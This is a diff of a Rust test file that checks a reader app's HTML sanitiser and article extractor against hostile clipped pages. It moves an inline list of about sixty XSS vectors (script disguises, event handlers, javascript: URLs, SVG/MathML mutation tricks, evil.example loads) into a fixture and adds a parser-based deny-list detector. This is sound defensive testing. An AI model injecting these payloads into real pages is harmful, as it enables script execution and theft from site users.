@@ -1,157 +1,173 @@
-//! A clipped page is hostile input: every vector below, placed inside an article, must come out
-//! of extraction and sanitising with nothing that could run, load or navigate.
+//! A clipped page is hostile input: every vector of `tests/fixtures/xss/vectors.json`, placed inside
+//! an article, must come out of extraction and sanitising with nothing that could run, load or
+//! navigate. (`tests/e2e/tests/hostile.rs` renders the same vectors in the real app.)
 
 use tidings_core::extract::{extract, sanitize_html};
 use url::Url;
 
-/// Script in its disguises, event handlers, dangerous URL schemes, SVG/MathML tricks, `<base>`,
-/// `<meta refresh>`, CSS, `srcdoc`, forms, and markup that re-parses into script.
-const VECTORS: &[&str] = &[
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<script type=\"module\">import('//evil.example')</script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=\"x\" ONERROR=\"alert(1)\">",
-    "<img src=x onerror\n=alert(1)>",
-    "<body onload=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
-    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<math href=\"javascript:alert(1)\">x</math>",
-    "<a href=\"javascript:alert(1)\">x</a>",
-    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
-    "<a href=\"  javascript:alert(1)\">x</a>",
-    "<a href=\"java&#x09;script:alert(1)\">x</a>",
-    "<a href=\"&#106;avascript:alert(1)\">x</a>",
-    "<a href=\"vbscript:msgbox(1)\">x</a>",
-    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
-    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
-    "<img src=\"javascript:alert(1)\">",
-    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
-    "<iframe src=\"https://evil.example\"></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
-    "<object data=\"javascript:alert(1)\"></object>",
-    "<embed src=\"javascript:alert(1)\">",
-    "<applet code=\"x\"></applet>",
-    "<base href=\"https://evil.example/\">",
-    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
-    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
-    "<style>body{background:url(javascript:alert(1))}</style>",
-    "<div style=\"background:url(javascript:alert(1))\">x</div>",
-    "<div style=\"width: expression(alert(1))\">x</div>",
-    "<p style=\"-moz-binding:url(//evil.example/x.xml#x)\">x</p>",
-    "<form action=\"https://evil.example\"><input name=p type=password><button>go</button></form>",
-    "<button formaction=\"javascript:alert(1)\">x</button>",
-    "<input autofocus onfocus=alert(1)>",
-    "<select onchange=alert(1)><option>x</option></select>",
-    "<textarea onfocus=alert(1) autofocus>x</textarea>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
-    "<td background=\"javascript:alert(1)\">x</td>",
-    "<isindex action=javascript:alert(1) type=submit>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
-    "<template><script>alert(1)</script></template>",
-    "<xmp><script>alert(1)</script></xmp>",
-    "<img src=\"x` `<script>alert(1)</script>\"` `>",
-    "<a href=\"https://ok.example\" onclick=\"alert(1)\" target=\"_top\">x</a>",
-    "<div id=\"x\" data-x=\"1\" onmouseover=\"alert(1)\">x</div>",
-    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<portal src=\"https://evil.example\"></portal>",
-    "<a href=\"https://ok.example\" ping=\"https://evil.example/track\">x</a>",
+/// The shared vectors (`tests/fixtures/xss/vectors.json`, also clipped into the real app by
+/// `tests/e2e/tests/hostile.rs`): script in its disguises, event handlers, dangerous URL schemes,
+/// SVG/MathML tricks, `<base>`, `<meta refresh>`, CSS, `srcdoc`, forms, and markup that re-parses
+/// into script. `PAYLOAD` stands for the script a vector would run and `TRAP_URL` for an address
+/// it would load; here they become `alert(1)` and an address on `evil.example`.
+fn vectors() -> Vec<String> {
+    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../../tests/fixtures/xss/vectors.json");
+    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
+    let raw: Vec<String> =
+        serde_json::from_str(&text).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
+    raw.iter()
+        .map(|v| {
+            v.replace("PAYLOAD", "alert(1)")
+                .replace("TRAP_URL", TRAP_URL)
+        })
+        .collect()
+}
+
+/// What `TRAP_URL` becomes in these tests.
+const TRAP_URL: &str = "https://evil.example/trap";
+
+/// Elements that run script, load or frame another document, restyle the page, submit, or parse
+/// their content differently (the raw-text and foreign-content ones behind mutation XSS).
+const BAD_ELEMENTS: &[&str] = &[
+    "script",
+    "iframe",
+    "frame",
+    "frameset",
+    "object",
+    "embed",
+    "applet",
+    "portal",
+    "base",
+    "meta",
+    "link",
+    "style",
+    "form",
+    "input",
+    "button",
+    "select",
+    "textarea",
+    "keygen",
+    "isindex",
+    "svg",
+    "math",
+    "template",
+    "noscript",
+    "noembed",
+    "noframes",
+    "xmp",
+    "plaintext",
+    "title",
+    "video",
+    "audio",
+    "source",
+    "dialog",
+    "marquee",
 ];
 
-/// What must never survive: anything that runs, loads a frame or a script, or navigates.
-fn dangerous(html: &str) -> Option<&'static str> {
-    let lower = html.to_ascii_lowercase();
-    const BAD: &[&str] = &[
-        "<script",
-        "javascript:",
-        "vbscript:",
-        "data:text",
-        "<iframe",
-        "<frame",
-        "<object",
-        "<embed",
-        "<applet",
-        "<base",
-        "<meta",
-        "<link",
-        "<style",
-        "style=",
-        "srcdoc",
-        "<form",
-        "<input",
-        "<button",
-        "<select",
-        "<textarea",
-        "<svg",
-        "<math",
-        "<template",
-        "<portal",
-        "formaction",
-        "ping=",
-        "expression(",
-        "<isindex",
-    ];
-    if let Some(bad) = BAD.iter().find(|b| lower.contains(*b)) {
-        return Some(bad);
-    }
-    // Event-handler attributes: ` on…=` inside a tag.
-    let mut rest = lower.as_str();
-    while let Some(open) = rest.find('<') {
-        let tag_end = rest[open..].find('>').map_or(rest.len(), |e| open + e);
-        let tag = &rest[open..tag_end];
-        if tag
-            .split(|c: char| c.is_whitespace() || c == '/')
-            .skip(1)
-            .any(|attr| attr.starts_with("on") && attr.contains('='))
-        {
-            return Some("an on… event handler");
+/// Attributes that load, submit, restyle or navigate whatever their value.
+const BAD_ATTRIBUTES: &[&str] = &[
+    "style",
+    "srcdoc",
+    "formaction",
+    "action",
+    "ping",
+    "background",
+    "poster",
+    "codebase",
+    "xlink:href",
+    "http-equiv",
+];
+
+/// URL schemes that run or render script when followed or loaded.
+const BAD_SCHEMES: &[&str] = &["javascript:", "vbscript:", "data:"];
+
+/// What must never survive: anything that runs, loads a frame or a script, restyles, submits or
+/// navigates. The HTML is parsed as the reader's `innerHTML` parses it, so a danger hidden in text
+/// or in an attribute's value is seen only if it becomes markup, and markup re-parsed into script
+/// (mutation XSS) is seen as the script it becomes.
+fn dangerous(html: &str) -> Option<String> {
+    let document = dom_query::Document::fragment(html);
+    for node in document.root().descendants() {
+        let Some(name) = node.node_name() else {
+            continue;
+        };
+        let name = name.to_ascii_lowercase();
+        if BAD_ELEMENTS.contains(&name.as_str()) {
+            return Some(format!("<{name}>"));
         }
-        rest = &rest[tag_end.min(rest.len())..];
-        if rest.len() <= 1 {
-            break;
+        for attribute in node.attrs() {
+            let attr = match &attribute.name.prefix {
+                Some(prefix) => format!("{}:{}", &**prefix, &*attribute.name.local),
+                None => attribute.name.local.to_string(),
+            }
+            .to_ascii_lowercase();
+            if attr.starts_with("on") {
+                return Some(format!("an event handler {attr} on <{name}>"));
+            }
+            if BAD_ATTRIBUTES.contains(&attr.as_str()) {
+                return Some(format!("{attr}= on <{name}>"));
+            }
+            // As a browser reads a URL: without surrounding spaces and controls, tabs or newlines.
+            let value: String = attribute
+                .value
+                .trim_matches(|c: char| c <= ' ')
+                .chars()
+                .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
+                .collect::<String>()
+                .to_ascii_lowercase();
+            if let Some(scheme) = BAD_SCHEMES.iter().find(|s| value.starts_with(*s)) {
+                if !inert(&name, &attr) {
+                    return Some(format!("{scheme} in {attr}= on <{name}>"));
+                }
+            }
+            if value.contains("expression(") {
+                return Some(format!("expression( in {attr}= on <{name}>"));
+            }
         }
-        rest = &rest[1..];
     }
     None
 }
 
+/// `cite` on a quotation or an edit: ammonia checks the scheme of `href` and `src` only, so `cite`
+/// keeps whatever the page wrote, `javascript:` included. No browser loads or follows `cite` and
+/// the reader never reads it, so it cannot run; tolerated here until `extract/sanitize.rs` drops or
+/// checks it (then delete this).
+fn inert(element: &str, attribute: &str) -> bool {
+    attribute == "cite" && ["blockquote", "q", "del", "ins"].contains(&element)
+}
+
 #[test]
-fn at_least_sixty_vectors_are_tried() {
-    assert!(VECTORS.len() >= 60, "{}", VECTORS.len());
+fn at_least_a_hundred_distinct_vectors_are_tried() {
+    let vectors = vectors();
+    let distinct: std::collections::HashSet<&String> = vectors.iter().collect();
+    assert_eq!(distinct.len(), vectors.len(), "a vector is listed twice");
+    assert!(vectors.len() >= 100, "{}", vectors.len());
 }
 
 #[test]
 fn the_sanitiser_leaves_nothing_that_runs() {
     let base = Url::parse("https://news.example/post").unwrap();
-    for vector in VECTORS {
+    let mut failures = Vec::new();
+    for vector in &vectors() {
         let clean = sanitize_html(&format!("<p>before</p>{vector}<p>after</p>"), &base);
-        assert_eq!(
-            dangerous(&clean),
-            None,
-            "vector {vector:?} became {clean:?}"
-        );
-        assert!(
-            clean.contains("before"),
-            "vector {vector:?} swallowed the text: {clean:?}"
-        );
+        if let Some(danger) = dangerous(&clean) {
+            failures.push(format!("{vector:?} kept {danger}: {clean:?}"));
+        }
+        if !clean.contains("before") {
+            failures.push(format!("{vector:?} swallowed the text: {clean:?}"));
+        }
     }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
 }
 
 #[test]
 fn a_clipped_article_full_of_vectors_is_stored_harmless() {
     let paragraph = "<p>This paragraph is ordinary article prose, long enough for the extractor to keep it as content.</p>";
-    let body: String = VECTORS.iter().map(|v| format!("{paragraph}{v}")).collect();
+    let body: String = vectors()
+        .iter()
+        .map(|v| format!("{paragraph}{v}"))
+        .collect();
     let page = format!("<html><head><title>Hostile</title></head><body><article><h1>Hostile</h1>{body}</article></body></html>");
     let extracted = extract(&page, &Url::parse("https://news.example/post").unwrap()).unwrap();
     assert_eq!(
@@ -164,14 +180,52 @@ fn a_clipped_article_full_of_vectors_is_stored_harmless() {
 }
 
 #[test]
+fn each_vector_in_an_article_of_its_own_is_stored_harmless() {
+    let prose = "<p>This paragraph is ordinary article prose, long enough for the extractor to keep it as content, with a second sentence for good measure.</p>";
+    let mut failures = Vec::new();
+    for vector in &vectors() {
+        let page = format!(
+            "<html><head><title>Hostile</title></head><body><article><h1>Hostile</h1>{prose}{prose}{vector}{prose}{prose}</article></body></html>"
+        );
+        match extract(&page, &Url::parse("https://news.example/post").unwrap()) {
+            Ok(extracted) => {
+                if let Some(danger) = dangerous(&extracted.content_html) {
+                    failures.push(format!(
+                        "{vector:?} kept {danger}: {:?}",
+                        extracted.content_html
+                    ));
+                }
+            }
+            Err(error) => failures.push(format!("{vector:?} lost the article: {error}")),
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
 fn the_checker_itself_sees_danger() {
     for bad in [
         "<img src=x onerror=alert(1)>",
         "<a href=\"javascript:x\">",
+        "<a href=\" java&#x09;script:x\">",
+        "<a href=\"DATA:text/html,x\">",
         "<script>",
         "<p style=\"x\">",
+        "<svg><a>x</a></svg>",
+        "<iframe></iframe>",
+        "<a href=\"https://ok.example\" ping=\"https://evil.example\">x</a>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
     ] {
         assert!(dangerous(bad).is_some(), "{bad}");
     }
-    assert_eq!(dangerous("<p class=\"language-rust\">x</p><a href=\"https://ok.example\" rel=\"noopener noreferrer\">y</a>"), None);
+    // Text and attribute values that only look like markup are not markup.
+    for harmless in [
+        "<p class=\"language-rust\">x</p><a href=\"https://ok.example\" rel=\"noopener noreferrer\">y</a>",
+        "<p>&lt;script&gt;alert(1)&lt;/script&gt; javascript: style=</p>",
+        "<img src=\"https://news.example/x/onerror=alert(1)\">",
+        "<a title=\"a&quot;><img src=x onerror=alert(1)>\">x</a>",
+        "<a href=\"https://news.example/javascript:alert(1)\">x</a>",
+    ] {
+        assert_eq!(dangerous(harmless), None, "{harmless}");
+    }
 }
